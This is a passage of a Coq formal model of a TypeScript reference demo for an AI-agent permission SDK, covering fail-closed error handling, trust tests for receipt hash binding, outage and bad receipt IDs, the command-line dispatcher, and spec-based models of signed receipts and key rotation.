(* ===================================================================== *)

(** [PermissionRouter] of [@permission-protocol/sdk], as the fail-closed
    scenario and the trust tests use it: [_reset], [configure] and
    [execute] with an input that is not one of the mock tools'. *)

Module Router.

(** What a [catch (error)] block can tell about the value it receives:
    [error instanceof PermissionProtocolError], with its [code] and
    [message]; [error instanceof Error], with its [message]; anything
    else, with [String(error)].  A test of [isPermissionError] is a
    [match] on the first case. *)
Inductive Thrown :=
| PermissionProtocolError (code message : string)
| OtherError (message : string)
| NotAnError (asString : string).

(** [error instanceof Error ? error.message : String(error)]. *)
Definition messageOf (error : Thrown) : string :=
  match error with
  | PermissionProtocolError _ message => message
  | OtherError message => message
  | NotAnError asString => asString
  end.

(** The argument of [PermissionRouter.configure]. *)
Record Config := {
  endpoint : string; apiKey : string; timeoutMs : option Z }.

(** The argument of [PermissionRouter.execute]. *)
Record Request := {
  tenantId : string;
  agentId : string;
  tool : string;
  operation : string;
  input : Canonicalizer.json;
  reversibility : Demo.Reversibility }.

End Router.

(* ===================================================================== *)
(** * Effects of the whole process                                        *)
(* ===================================================================== *)

(** The events of [Demo], the box of [formatFailClosed] and the calls of
    the SDK that only the fail-closed scenario, the trust tests and
    [index.ts] make.  A line of [console.log] is the text written to the
    terminal, in UTF-8; [console.log()] writes the empty line.  No length
    is taken of a line. *)

Module Process.

Inductive FailClosedPhase := REQUESTING | FAIL_CLOSED | UNEXPECTED.

Record FailClosedOptions := {
  scenarioName : string;
  tool : string;
  operation : string;
  phase : FailClosedPhase;
  errorCode : option string;
  errorMessage : option string;
  message : option string }.

Inductive event :=
| demo (e : Demo.event)
| console_log_formatFailClosed (opts : FailClosedOptions)
| router_reset
| router_configure (cfg : Router.Config)
| router_execute (req : Router.Request).

(** How a computation ends when it does not return: the process exits,
    a value is thrown where a [catch] of this part of the code can
    receive it, or a gated scenario lets an error of the SDK escape. *)
Inductive stop :=
| process_exit (code : Z)
| thrown (e : Router.Thrown)
| scenario_thrown (e : Demo.Exn).

Definition M (A : Type) : Type := list event -> list event * (stop + A).

Definition ret {A} (a : A) : M A := fun tr => (tr, inr a).

Definition bind {A B} (m : M A) (k : A -> M B) : M B :=
  fun tr =>
    match m tr with
    | (tr', inr a) => k a tr'
    | (tr', inl s) => (tr', inl s)
    end.

Definition emit (e : event) : M unit := fun tr => ((tr ++ [e])%list, inr tt).

Definition process_exit_with {A} (code : Z) : M A :=
  fun tr => (tr, inl (process_exit code)).

Definition throw {A} (e : Router.Thrown) : M A := fun tr => (tr, inl (thrown e)).

(** [try { body } catch (error) { handler }]: [process.exit] inside the
    body ends the process, it is not caught.  The bodies of the [try]
    blocks modelled here call no gated scenario. *)
Definition try_catch {A} (body : M A) (handler : Router.Thrown -> M A) : M A :=
  fun tr =>
    match body tr with
    | (tr', inl (thrown e)) => handler e tr'
    | r => r
    end.

#[global] Instance process_ret : MRet M := @ret.
#[global] Instance process_bind : MBind M := fun A B k m => bind m k.

(** A computation of [Demo] run inside the process: its events, in
    order, after those already there. *)
Definition lift {A} (m : Demo.M A) : M A :=
  fun tr =>
    let tr' := (tr ++ map demo (Demo.trace m))%list in
    match Demo.outcome m with
    | inr a => (tr', inr a)
    | inl (Demo.process_exit code) => (tr', inl (process_exit code))
    | inl (Demo.thrown e) => (tr', inl (scenario_thrown e))
    end.

Definition console_log (line : string) : M unit :=
  emit (demo (Demo.console_log (Demo.text line))).

Definition console_error (line : string) : M unit :=
  emit (demo (Demo.console_error line)).

(** [for (const a of l) { f(a) }]. *)
Fixpoint forEach {A} (l : list A) (f : A -> M unit) : M unit :=
  match l with
  | [] => mret tt
  | a :: rest => f a;; forEach rest f
  end.

Definition trace {A} (m : M A) : list event := fst (m []).

Definition outcome {A} (m : M A) : stop + A := snd (m []).

(** The lines that [console.log] writes as plain text.  The boxes of
    [formatResult] and [formatFailClosed], the notices of the mock tools
    and the [Tool executed] line are events of their own and are not
    among them. *)
Definition lines (tr : list event) : list string :=
  omap (fun e => match e with
                 | demo (Demo.console_log (Demo.text line)) => Some line
                 | _ => None
                 end) tr.

(** The calls of the SDK among the events. *)
Definition isSdkCall (e : event) : bool :=
  match e with
  | router_reset | router_configure _ | router_execute _ => true
  | _ => false
  end.

Definition sdkCalls (tr : list event) : list event := List.filter isSdkCall tr.

Section Sdk.

(** What the SDK answers to a request: a result, or a thrown value. *)
Variable execute : Router.Request -> Router.Thrown + Demo.ExecuteResult.

Definition PermissionRouter_execute (req : Router.Request) : M Demo.ExecuteResult :=
  emit (router_execute req);;
  match execute req with
  | inl e => throw e
  | inr r => mret r
  end.

End Sdk.

Definition PermissionRouter_reset : M unit := emit router_reset.

Definition PermissionRouter_configure (cfg : Router.Config) : M unit :=
  emit (router_configure cfg).

End Process.

(* ===================================================================== *)
(** * reference-demo/src/output.ts: the printing functions                *)
(* ===================================================================== *)

Module Printing.
Import Process.

Definition printHeader : M unit :=
  console_log EmptyString;;
  console_log (Output.colorize "  ╔═══════════════════════════════════════════════════════════╗" Output.cyan);;
  console_log (Output.colorize "  ║       Permission Protocol - Reference Demo                ║" Output.cyan);;
  console_log (Output.colorize "  ║       Authority Boundaries for AI Agents                  ║" Output.cyan);;
  console_log (Output.colorize "  ╚═══════════════════════════════════════════════════════════╝" Output.cyan);;
  console_log EmptyString.

Definition printSeparator : M unit :=
  console_log EmptyString;;
  console_log (Output.colorize "  ─────────────────────────────────────────────────────────────" Output.dim);;
  console_log EmptyString.

(** An entry of the summary; [match] is a keyword here. *)
Record Result := { scenario : string; status : string; match_ : bool }.

Definition printSummary (results : list Result) : M unit :=
  console_log EmptyString;;
  console_log (Output.colorize "  Summary" Output.bold);;
  console_log (Output.colorize "  ───────" Output.dim);;
  forEach results (fun r =>
    let icon := if match_ r then Output.colorize "✓" Output.green
                else Output.colorize "✗" Output.red in
    console_log ("  " ++ icon ++ " " ++ scenario r ++ ": "
                 ++ Output.statusColor (status r)));;
  let allPassed := forallb match_ results in
  console_log EmptyString;;
  (if allPassed then
     console_log (Output.colorize "  All scenarios completed as expected." Output.green)
   else
     console_log (Output.colorize "  Some scenarios did not match expected status." Output.yellow));;
  console_log EmptyString.

End Printing.

(* ===================================================================== *)
(** * reference-demo/src/scenarios/invalid-receipt.ts                     *)
(* ===================================================================== *)

Module InvalidReceipt.
Import Process.

Definition SCENARIO_NAME := "Fail-Closed Behavior".
Definition TOOL := "test.invalid".
Definition OPERATION := "trigger_error".
Definition EXPECTED_STATUS := "EXCEPTION".

Definition input : Canonicalizer.json :=
  Canonicalizer.JObj
    [ ("action",
       Canonicalizer.JStr
         "This will fail because the tool/operation is not registered") ].

(** The argument of [PermissionRouter.execute]. *)
Definition request (tenantId agentId : string) : Router.Request :=
  {| Router.tenantId := tenantId; Router.agentId := agentId;
     Router.tool := "test";
     Router.operation := "invalid_operation_that_does_not_exist";
     Router.input := input;
     Router.reversibility := Demo.UNKNOWN |}.

Section World.

Variable execute : Router.Request -> Router.Thrown + Demo.ExecuteResult.

Definition run (tenantId agentId : string) : M unit :=
  emit (console_log_formatFailClosed
    {| scenarioName := SCENARIO_NAME; tool := TOOL; operation := OPERATION;
       phase := REQUESTING;
       errorCode := None; errorMessage := None; message := None |});;
  try_catch
    (PermissionRouter_execute execute (request tenantId agentId);;
     emit (console_log_formatFailClosed
       {| scenarioName := SCENARIO_NAME; tool := TOOL; operation := OPERATION;
          phase := UNEXPECTED;
          errorCode := None; errorMessage := None;
          message :=
            Some "Expected an error but got a response - this is a bug!" |});;
     process_exit_with 1)
    (fun error =>
       let errorCode :=
         match error with
         | Router.PermissionProtocolError code _ => code
         | _ => "UNKNOWN"
         end in
       let errorMessage := Router.messageOf error in
       emit (console_log_formatFailClosed
         {| scenarioName := SCENARIO_NAME; tool := TOOL;
            operation := OPERATION; phase := FAIL_CLOSED;
            errorCode := Some errorCode;
            errorMessage := Some errorMessage; message := None |})).

End World.

End InvalidReceipt.

(* ===================================================================== *)
(** * reference-demo/src/scenarios/trust-tests.ts: the suite              *)
(* ===================================================================== *)

(** The tests with their console output and their calls of the SDK; the
    payloads and the CI gate are those of [TrustTests]. *)

Module TrustSuite.
Import Process.

Definition RED := String Output.ESC "[31m".
Definition GREEN := String Output.ESC "[32m".
Definition YELLOW := String Output.ESC "[33m".
Definition CYAN := String Output.ESC "[36m".
Definition BOLD := String Output.ESC "[1m".
Definition RESET := String Output.ESC "[0m".

Definition printTestHeader (testNum : Z) (testName : string) : M unit :=
  console_log EmptyString;;
  console_log (BOLD ++ CYAN ++ "═══════════════════════════════════════════════════════════════" ++ RESET);;
  console_log (BOLD ++ CYAN ++ "  TRUST TEST " ++ Js.numberToString testNum ++ ": " ++ testName ++ RESET);;
  console_log (BOLD ++ CYAN ++ "═══════════════════════════════════════════════════════════════" ++ RESET);;
  console_log EmptyString.

Definition printSuccess (message : string) : M unit :=
  console_log (GREEN ++ "✓ PASS" ++ RESET ++ ": " ++ message).

Definition printFailure (message : string) : M unit :=
  console_log (RED ++ "✗ FAIL" ++ RESET ++ ": " ++ message).

Definition printInfo (message : string) : M unit :=
  console_log (YELLOW ++ "ℹ INFO" ++ RESET ++ ": " ++ message).

Section World.

(** [computeHash] comes from the SDK package. *)
Variable computeHash : Sdk.HashablePayloadV1 -> string.

Variable execute : Router.Request -> Router.Thrown + Demo.ExecuteResult.

Definition testMaliciousInputAttempt (tenantId agentId : string) : M bool :=
  printTestHeader 1 "Malicious Input Attempt";;
  console_log "Scenario: Agent gets approval for one action, then tries to execute a different action";;
  console_log EmptyString;;
  let originalPayload := TrustTests.originalPayload in
  let maliciousPayload := TrustTests.maliciousPayload in
  let originalHash := computeHash originalPayload in
  let maliciousHash := computeHash maliciousPayload in
  console_log "Original payload inputHash:";;
  console_log ("  " ++ originalHash);;
  console_log EmptyString;;
  console_log "Malicious payload inputHash:";;
  console_log ("  " ++ maliciousHash);;
  console_log EmptyString;;
  if String.eqb originalHash maliciousHash then
    printFailure "CRITICAL: Hash collision! Different payloads produce same hash.";;
    mret false
  else
    printSuccess "Hashes are different - receipt is binding to original input";;
    console_log EmptyString;;
    console_log "Simulating CI verification:";;
    console_log ("  Receipt was issued with inputHash: "
                 ++ Js.substring originalHash 0 40 ++ "...");;
    console_log ("  Agent tries to deploy with hash:   "
                 ++ Js.substring maliciousHash 0 40 ++ "...");;
    console_log EmptyString;;
    let hashesMatch := String.eqb originalHash maliciousHash in
    if negb hashesMatch then
      printSuccess "Hash mismatch detected - malicious payload would be BLOCKED";;
      printInfo "Receipt is binding, not decorative";;
      console_log EmptyString;;
      console_log (BOLD ++ "Test 1 Outcome:" ++ RESET);;
      console_log "  • Receipts contain cryptographic hash of the approved input";;
      console_log "  • Any modification to input after approval changes the hash";;
      console_log "  • CI gate can verify receipt.inputHash matches actual deployment payload";;
      console_log "  • Replay attacks with different payloads are detectable";;
      mret true
    else
      printFailure "SECURITY FAILURE: Hashes match when they should not";;
      mret false.

(** The argument of [PermissionRouter.execute] in test 2. *)
Definition outageRequest (tenantId agentId : string) : Router.Request :=
  {| Router.tenantId := tenantId; Router.agentId := agentId;
     Router.tool := "deploy";
     Router.operation := "deploy_production";
     Router.input :=
       Canonicalizer.JObj [ ("version", Canonicalizer.JStr "1.0.0") ];
     Router.reversibility := Demo.IRREVERSIBLE |}.

(** The [try] block either returns a value from the function, [Some],
    or falls through to the statements after it, [None]. *)
Definition testHostedOutage (tenantId agentId : string) : M bool :=
  printTestHeader 2 "Hosted Outage";;
  console_log "Scenario: The Permission Protocol server is unreachable";;
  console_log EmptyString;;
  PermissionRouter_reset;;
  let deadEndpoint := "http://localhost:59999" in
  console_log "Configuring SDK with unreachable endpoint:";;
  console_log ("  Endpoint: " ++ deadEndpoint);;
  console_log EmptyString;;
  PermissionRouter_configure
    {| Router.endpoint := deadEndpoint;
       Router.apiKey := "test-key-for-outage-simulation";
       Router.timeoutMs := Some 3000%Z |};;
  console_log "Attempting to request authorization...";;
  console_log EmptyString;;
  returned ← try_catch
    (PermissionRouter_execute execute (outageRequest tenantId agentId);;
     printFailure "SECURITY FAILURE: SDK returned success when endpoint was unreachable!";;
     printFailure ("This is a " ++ Js.dquote ++ "fail open" ++ Js.dquote ++ " behavior - very dangerous!");;
     mret (Some false))
    (fun error =>
       match error with
       | Router.PermissionProtocolError code message =>
           printSuccess "SDK threw PermissionProtocolError (fail closed)";;
           console_log ("  Error code: " ++ code);;
           console_log ("  Error message: " ++ message);;
           mret None
       | _ =>
           printSuccess "SDK threw error (fail closed)";;
           console_log ("  Error: " ++ Router.messageOf error);;
           mret None
       end);
  match returned with
  | Some value => mret value
  | None =>
      console_log EmptyString;;
      console_log (BOLD ++ "Test 2 Outcome:" ++ RESET);;
      console_log "  • When the enforcement plane is unreachable, execution is BLOCKED";;
      console_log ("  • No " ++ Js.dquote ++ "best effort" ++ Js.dquote ++ " success - the SDK fails closed");;
      console_log "  • Enforcement plane is authoritative, not advisory";;
      console_log "  • Network partitions don't create security holes";;
      mret true
  end.

(** The cases of test 3: receipt ID and reason. *)
Definition badReceiptIds : list (string * string) :=
  [ ("rec_TYPO_abc123", "Typo in receipt ID");
    ("rec_old_expired_from_last_week",
     "Old receipt ID from previous deployment");
    (EmptyString, "Empty receipt ID (forgot to set variable)");
    ("undefined", "Undefined receipt ID (env var not set)") ].

(** The loop of test 3 over the cases left: [Some value] when the loop
    returns from the function, [None] when it runs to its end. *)
Fixpoint humanErrorCases (cases : list (string * string)) : M (option bool) :=
  match cases with
  | [] => mret None
  | (id, reason) :: rest =>
      console_log (CYAN ++ "─────────────────────────────────────────" ++ RESET);;
      console_log ("Case: " ++ reason);;
      console_log ("Receipt ID: " ++ Js.dquote ++ (if Js.falsy id then "(empty)" else id) ++ Js.dquote);;
      console_log EmptyString;;
      let result := TrustTests.simulateCIGateVerification id in
      if TrustTests.blocked result then
        printSuccess ("Deploy BLOCKED: " ++ TrustTests.message result);;
        console_log EmptyString;;
        humanErrorCases rest
      else
        printFailure "Deploy allowed when it should have been blocked!";;
        mret (Some false)
  end.

Definition testHumanErrorPath : M bool :=
  printTestHeader 3 "Human Error Path";;
  console_log "Scenario: Developer uses wrong receipt ID in CI (typo or old ID)";;
  console_log EmptyString;;
  console_log "Testing various human error scenarios:";;
  console_log EmptyString;;
  returned ← humanErrorCases badReceiptIds;
  match returned with
  | Some value => mret value
  | None =>
      console_log (BOLD ++ "Test 3 Outcome:" ++ RESET);;
      console_log "  • Invalid/typo'd receipt IDs result in blocked deployments";;
      console_log "  • Error messages are clear and actionable";;
      console_log ("  • " ++ Js.dquote ++ "No receipt = No deploy" ++ Js.dquote ++ " is enforced unconditionally");;
      console_log "  • Human errors are caught, not silently ignored";;
      mret true
  end.

Definition runAllTrustTests (tenantId agentId : string) : M unit :=
  console_log EmptyString;;
  console_log (BOLD ++ CYAN ++ "╔═══════════════════════════════════════════════════════════════╗" ++ RESET);;
  console_log (BOLD ++ CYAN ++ "║                     TRUST TEST SUITE                          ║" ++ RESET);;
  console_log (BOLD ++ CYAN ++ "║         Manual Real-World Sanity Checks                       ║" ++ RESET);;
  console_log (BOLD ++ CYAN ++ "╚═══════════════════════════════════════════════════════════════╝" ++ RESET);;
  let results : list (string * bool) := [] in
  test1Passed ← testMaliciousInputAttempt tenantId agentId;
  let results := (results ++ [("Malicious Input Attempt", test1Passed)])%list in
  test2Passed ← testHostedOutage tenantId agentId;
  let results := (results ++ [("Hosted Outage", test2Passed)])%list in
  test3Passed ← testHumanErrorPath;
  let results := (results ++ [("Human Error Path", test3Passed)])%list in
  console_log EmptyString;;
  console_log (BOLD ++ CYAN ++ "═══════════════════════════════════════════════════════════════" ++ RESET);;
  console_log (BOLD ++ CYAN ++ "                        SUMMARY                                 " ++ RESET);;
  console_log (BOLD ++ CYAN ++ "═══════════════════════════════════════════════════════════════" ++ RESET);;
  console_log EmptyString;;
  let allPassed := forallb snd results in
  forEach results (fun '(name, passed) =>
    let status := if passed : bool then GREEN ++ "✓ PASS" ++ RESET
                  else RED ++ "✗ FAIL" ++ RESET in
    console_log ("  " ++ status ++ "  Test: " ++ name));;
  console_log EmptyString;;
  if allPassed then
    console_log (GREEN ++ BOLD ++ "All trust tests passed!" ++ RESET);;
    console_log EmptyString;;
    console_log "The Permission Protocol demonstrates:";;
    console_log "  1. Receipts are cryptographically binding, not decorative";;
    console_log ("  2. The enforcement plane is authoritative - no " ++ Js.dquote ++ "best effort" ++ Js.dquote ++ " success");;
    console_log "  3. Human errors are caught with clear, actionable messages";;
    console_log EmptyString
  else
    console_log (RED ++ BOLD ++ "Some trust tests failed!" ++ RESET);;
    console_log "Review the failures above and investigate.";;
    process_exit_with 1.

Definition SCENARIO_NAME := "Trust Tests".
Definition EXPECTED_STATUS := "ALL_PASS".

Definition run (tenantId agentId : string) : M unit :=
  runAllTrustTests tenantId agentId.

End World.

End TrustSuite.

(* ===================================================================== *)
(** * reference-demo/src/index.ts: the command                            *)
(* ===================================================================== *)

Module Cli.
Import Process.

(** What commander passes to the action: [--all] is [true] or absent,
    [--scenario <name>] a string or absent. *)
Record Options := { all : bool; scenario : option string }.

Inductive ScenarioName := spend | prod | message | invalid_receipt | trust_tests.

(** The property names of the object that [loadScenarios] returns. *)
Definition key (name : ScenarioName) : string :=
  match name with
  | spend => "spend"
  | prod => "prod"
  | message => "message"
  | invalid_receipt => "invalid-receipt"
  | trust_tests => "trust-tests"
  end.

(** What the action uses of a scenario module. *)
Record ScenarioModule := {
  run : string -> string -> M unit;
  SCENARIO_NAME : string;
  EXPECTED_STATUS : string }.

(** The properties every object literal inherits from
    [Object.prototype]; each is a function or an object, so truthy, and
    none has a property [run]. *)
Definition ObjectPrototype : list string :=
  [ "constructor"; "__defineGetter__"; "__defineSetter__"; "hasOwnProperty";
    "__lookupGetter__"; "__lookupSetter__"; "isPrototypeOf";
    "propertyIsEnumerable"; "toString"; "valueOf"; "__proto__";
    "toLocaleString" ].

(** [scenarios[name]] for a name that is any string. *)
Inductive Property :=
| own (name : ScenarioName)
| inherited
| undefined.

Definition lookup (name : string) : Property :=
  if String.eqb name (key spend) then own spend
  else if String.eqb name (key prod) then own prod
  else if String.eqb name (key message) then own message
  else if String.eqb name (key invalid_receipt) then own invalid_receipt
  else if String.eqb name (key trust_tests) then own trust_tests
  else if existsb (String.eqb name) ObjectPrototype then inherited
  else undefined.

Section World.

(** [process.env], after dotenv has loaded its file. *)
Variable processEnv : gmap string string.

(** The answers of the SDK to the gated scenarios and to the others. *)
Variable execute : Demo.ExecuteRequest -> Demo.Exn + Demo.ExecuteResult.
Variable execute_any : Router.Request -> Router.Thrown + Demo.ExecuteResult.

(** [Date.now()] when the mock tool of a scenario runs. *)
Variable Date_now : Scenarios.Scenario -> Z.

Variable sendResult : Demo.SendCampaignInput -> Demo.ToolResult.
Variable computeHash : Sdk.HashablePayloadV1 -> string.

Definition gated (s : Scenarios.Scenario) (name expected : string) : ScenarioModule :=
  {| run := fun tenantId agentId =>
       lift (Scenarios.run execute (Date_now s) sendResult s tenantId agentId);
     SCENARIO_NAME := name;
     EXPECTED_STATUS := expected |}.

(** [loadScenarios]. *)
Definition scenarios (name : ScenarioName) : ScenarioModule :=
  match name with
  | spend =>
      gated Scenarios.spend Scenarios.spend_SCENARIO_NAME
        Scenarios.spend_EXPECTED_STATUS
  | prod =>
      gated Scenarios.prod Scenarios.prod_SCENARIO_NAME
        Scenarios.prod_EXPECTED_STATUS
  | message =>
      gated Scenarios.message Scenarios.message_SCENARIO_NAME
        Scenarios.message_EXPECTED_STATUS
  | invalid_receipt =>
      {| run := InvalidReceipt.run execute_any;
         SCENARIO_NAME := InvalidReceipt.SCENARIO_NAME;
         EXPECTED_STATUS := InvalidReceipt.EXPECTED_STATUS |}
  | trust_tests =>
      {| run := TrustSuite.run computeHash execute_any;
         SCENARIO_NAME := TrustSuite.SCENARIO_NAME;
         EXPECTED_STATUS := TrustSuite.EXPECTED_STATUS |}
  end.

Definition scenarioOrder : list ScenarioName :=
  [ spend; prod; message; invalid_receipt ].

(** The loop of [--all] over the names left, [results] being the
    entries pushed so far. *)
Fixpoint runAll (tenantId agentId : string) (order : list ScenarioName)
    (results : list Printing.Result) : M (list Printing.Result) :=
  match order with
  | [] => mret results
  | name :: rest =>
      let scenario := scenarios name in
      run scenario tenantId agentId;;
      let results :=
        (results ++ [ {| Printing.scenario := SCENARIO_NAME scenario;
                         Printing.status := EXPECTED_STATUS scenario;
                         Printing.match_ := true |} ])%list in
      (if negb (String.eqb (key name) "invalid-receipt")
       then Printing.printSeparator else mret tt);;
      runAll tenantId agentId rest results
  end.

Definition help : M unit :=
  console_log "No scenario specified. Use --scenario or --all";;
  console_log EmptyString;;
  console_log "Available scenarios:";;
  console_log "  spend           - Spending money (expected: DENIED)";;
  console_log "  prod            - Writing to production (expected: REQUIRES_APPROVAL)";;
  console_log "  message         - Messaging customers (expected: REQUIRES_APPROVAL)";;
  console_log "  invalid-receipt - Fail-closed behavior (expected: ERROR)";;
  console_log "  trust-tests     - Manual trust verification tests (3 tests)";;
  console_log EmptyString;;
  console_log "Examples:";;
  console_log "  pnpm demo:run --scenario spend";;
  console_log "  pnpm demo:run --scenario trust-tests";;
  console_log "  pnpm demo:run --all".

(** The action of the command. *)
Definition action (options : Options) : M unit :=
  env ← lift (Index.validateEnv processEnv);
  PermissionRouter_configure
    {| Router.endpoint := Index.endpoint env;
       Router.apiKey := Index.apiKey env;
       Router.timeoutMs := None |};;
  Printing.printHeader;;
  if all options then
    results ← runAll (Index.tenantId env) (Index.agentId env) scenarioOrder [];
    Printing.printSummary results
  else if negb (Js.falsy_opt (scenario options)) then
    let name := default EmptyString (scenario options) in
    match lookup name with
    | undefined =>
        console_error ("Unknown scenario: " ++ name);;
        console_error "Available scenarios: spend, prod, message, invalid-receipt";;
        process_exit_with 1
    | inherited =>
        throw (Router.OtherError "scenario.run is not a function")
    | own name => run (scenarios name) (Index.tenantId env) (Index.agentId env)
    end
  else help.

End World.

End Cli.

(* ===================================================================== *)
(** * Receipts and keys                                                   *)
(* ===================================================================== *)

(** Modelled from the spec: the data model of section 3. *)

Module Receipt.
Import Canonicalizer.

Inductive Decision := APPROVED | DENIED | REQUIRES_APPROVAL.

Definition decisionName (d : Decision) : string :=
  match d with
  | APPROVED => "APPROVED"
  | DENIED => "DENIED"
  | REQUIRES_APPROVAL => "REQUIRES_APPROVAL"
  end.

Inductive SigAlg := ed25519.

Record PermissionReceipt := {
  receiptId : string;
  decision : Decision;
  scope : string;
  scopeRef : string;
  scopeSha : string;
  issuedAt : Z;
  expiresAt : Z;
  redeemedAt : option Z;
  signature : option string;
  sigAlg : option SigAlg;
  keyId : option string }.

(** Modelled from the spec: the signable subset of a receipt, section
    4.1 (no code in the repository builds it). *)
Definition signable (r : PermissionReceipt) : json :=
  JObj [ ("decision", JStr (decisionName (decision r)));
         ("expiresAt", JNum (expiresAt r));
         ("issuedAt", JNum (issuedAt r));
         ("receiptId", JStr (receiptId r));
         ("scope", JStr (scope r));
         ("scopeRef", JStr (scopeRef r));
         ("scopeSha", JStr (scopeSha r)) ].

(** Modelled from the spec: [canonicalize] of section 4.1, missing from
    the repository. *)
Definition canonicalize (r : PermissionReceipt) : string :=
  canonicalizeJson (signable r).

(** Modelled from the spec: the SHA-256 digest that is signed, section
    4.1. *)
Definition digest (r : PermissionReceipt) : N :=
  Sha256.digest (canonicalize r).

Definition withRedeemedAt (r : PermissionReceipt) (t : Z) : PermissionReceipt :=
  {| receiptId := receiptId r; decision := decision r; scope := scope r;
     scopeRef := scopeRef r; scopeSha := scopeSha r;
     issuedAt := issuedAt r; expiresAt := expiresAt r;
     redeemedAt := Some t;
     signature := signature r; sigAlg := sigAlg r; keyId := keyId r |}.

Definition withSignature (r : PermissionReceipt) (sig kid : string) : PermissionReceipt :=
  {| receiptId := receiptId r; decision := decision r; scope := scope r;
     scopeRef := scopeRef r; scopeSha := scopeSha r;
     issuedAt := issuedAt r; expiresAt := expiresAt r;
     redeemedAt := redeemedAt r;
     signature := Some sig; sigAlg := Some ed25519; keyId := Some kid |}.

Definition unsigned (r : PermissionReceipt) : PermissionReceipt :=
  {| receiptId := receiptId r; decision := decision r; scope := scope r;
     scopeRef := scopeRef r; scopeSha := scopeSha r;
     issuedAt := issuedAt r; expiresAt := expiresAt r;
     redeemedAt := redeemedAt r;
     signature := None; sigAlg := None; keyId := None |}.

End Receipt.

(** Modelled from the spec: the KeyStore of section 4.2 and the
    SigningKey invariants of section 3. *)

Module KeyStore.

Inductive KeyStatus := active | rotated | revoked.

#[global] Instance KeyStatus_eq_dec : EqDecision KeyStatus.
Proof. solve_decision. Defined.

Record SigningKey := {
  keyId : string;
  publicKey : string;
  privateKey : string;
  status : KeyStatus;
  createdAt : Z }.

Definition withStatus (k : SigningKey) (s : KeyStatus) : SigningKey :=
  {| keyId := keyId k; publicKey := publicKey k; privateKey := privateKey k;
     status := s; createdAt := createdAt k |}.

Inductive KeyStoreError := NoActiveKey | NotFound | KeyIdCollision.

Definition getKey (keyId : string) (ks : gmap string SigningKey) : KeyStoreError + SigningKey :=
  match ks !! keyId with
  | Some k => inr k
  | None => inl NotFound
  end.

Definition activeKeys (ks : gmap string SigningKey) : list SigningKey :=
  filter (fun k => status k = active) (map_to_list ks).*2.

Definition getActiveKey (ks : gmap string SigningKey) : KeyStoreError + SigningKey :=
  match activeKeys ks with
  | k :: _ => inr k
  | [] => inl NoActiveKey
  end.

(** Modelled from the spec: what [rotate] does to the keys already in
    the store, section 4.2: the prior active key becomes [rotated]. *)
Definition demote (k : SigningKey) : SigningKey :=
  match status k with
  | active => withStatus k rotated
  | _ => k
  end.

(** Modelled from the spec: [rotate] of section 4.2, missing from the
    repository. *)
Definition rotate (newKey : SigningKey) (ks : gmap string SigningKey)
  : KeyStoreError + gmap string SigningKey :=
  match ks !! keyId newKey with
  | Some _ => inl KeyIdCollision
  | None => inr (<[keyId newKey := withStatus newKey active]> (demote <$> ks))
  end.

(** Modelled from the spec: [revoke] of section 4.2, missing from the
    repository. *)
Definition revoke (keyId : string) (ks : gmap string SigningKey)
  : KeyStoreError + gmap string SigningKey :=
  match ks !! keyId with
  | Some k => inr (<[keyId := withStatus k revoked]> ks)
  | None => inl NotFound
  end.

(** The startup consistency check against the configured key id. *)
Definition startupCheck (expected : string) (ks : gmap string SigningKey) : bool :=
  match ks !! expected with
  | Some k => bool_decide (status k = active)
  | None => false
  end.

(** Operations on the store and their runs; an operation that fails
    leaves the store as it was. *)
Inductive op :=
| opRotate (newKey : SigningKey)
| opRevoke (keyId : string).

Definition apply (o : op) (ks : gmap string SigningKey)
  : KeyStoreError + gmap string SigningKey :=
  match o with
  | opRotate newKey => rotate newKey ks
  | opRevoke keyId => revoke keyId ks
  end.

Definition step (ks : gmap string SigningKey) (o : op) : gmap string SigningKey :=
  match apply o ks with
  | inr ks' => ks'
  | inl _ => ks
  end.

Definition run (ks : gmap string SigningKey) (ops : list op) : gmap string SigningKey :=
  foldl step ks ops.

(** The position of a status in [active -> rotated -> revoked]. *)
Definition rank (s : KeyStatus) : nat :=
  match s with
  | active => 0
  | rotated => 1
  | revoked => 2
  end.

Definition atMostOneActive (ks : gmap string SigningKey) : Prop :=
  forall i j ki kj,
    ks !! i = Some ki -> ks !! j = Some kj ->
    status ki = active -> status kj = active -> i = j.

End KeyStore.

(** Modelled from the spec: the Signer of section 4.3 with the signing
    mode policy enforced at receipt creation, the RedemptionLedger of
    section 4.5 and the Verifier of section 4.4.  Ed25519 itself is a
    parameter. *)

Module Service.
Import Receipt KeyStore.

Inductive SigningMode := required | optional | disabled.

Definition isRequired (mode : SigningMode) : bool :=
  match mode with
  | required => true
  | _ => false
  end.

(** [x != null]. *)
Definition isSome {A} (x : option A) : bool :=
  match x with
  | Some _ => true
  | None => false
  end.

Inductive RedeemResult := Ok | AlreadyRedeemed.

Inductive ErrorCode :=
| PP_NO_RECEIPT
| PP_EXPIRED
| PP_REDEEMED
| PP_SCOPE_MISMATCH
| PP_UNSIGNED_RECEIPT
| PP_INVALID_SIGNATURE.

(** The code as the endpoint writes it. *)
Definition codeName (c : ErrorCode) : string :=
  match c with
  | PP_NO_RECEIPT => "PP_NO_RECEIPT"
  | PP_EXPIRED => "PP_EXPIRED"
  | PP_REDEEMED => "PP_REDEEMED"
  | PP_SCOPE_MISMATCH => "PP_SCOPE_MISMATCH"
  | PP_UNSIGNED_RECEIPT => "PP_UNSIGNED_RECEIPT"
  | PP_INVALID_SIGNATURE => "PP_INVALID_SIGNATURE"
  end.

Definition errorCodes : list string :=
  [ "PP_NO_RECEIPT"; "PP_EXPIRED"; "PP_REDEEMED"; "PP_SCOPE_MISMATCH";
    "PP_UNSIGNED_RECEIPT"; "PP_INVALID_SIGNATURE" ].

Record VerifyRequest := {
  req_receiptId : string;
  req_scope : string;
  req_scopeRef : string;
  req_scopeSha : string;
  req_redeem : bool }.

(** The public view of a receipt: no signature bytes, no key material
    beyond the algorithm and the key id. *)
Record ReceiptView := {
  view_id : string;
  view_decision : Decision;
  view_scope : string;
  view_scopeRef : string;
  view_scopeSha : string;
  view_issuedAt : Z;
  view_expiresAt : Z;
  view_redeemedAt : option Z;
  view_sigAlg : option SigAlg;
  view_keyId : option string }.

Definition publicView (r : PermissionReceipt) : ReceiptView :=
  {| view_id := receiptId r; view_decision := decision r;
     view_scope := scope r; view_scopeRef := scopeRef r;
     view_scopeSha := scopeSha r; view_issuedAt := issuedAt r;
     view_expiresAt := expiresAt r; view_redeemedAt := redeemedAt r;
     view_sigAlg := sigAlg r; view_keyId := Receipt.keyId r |}.

Inductive VerificationResult :=
| Valid (receipt : ReceiptView)
| Invalid (code : ErrorCode).

(** ** RedemptionLedger *)

(** Modelled from the spec: [tryRedeem] of section 4.5, missing from the
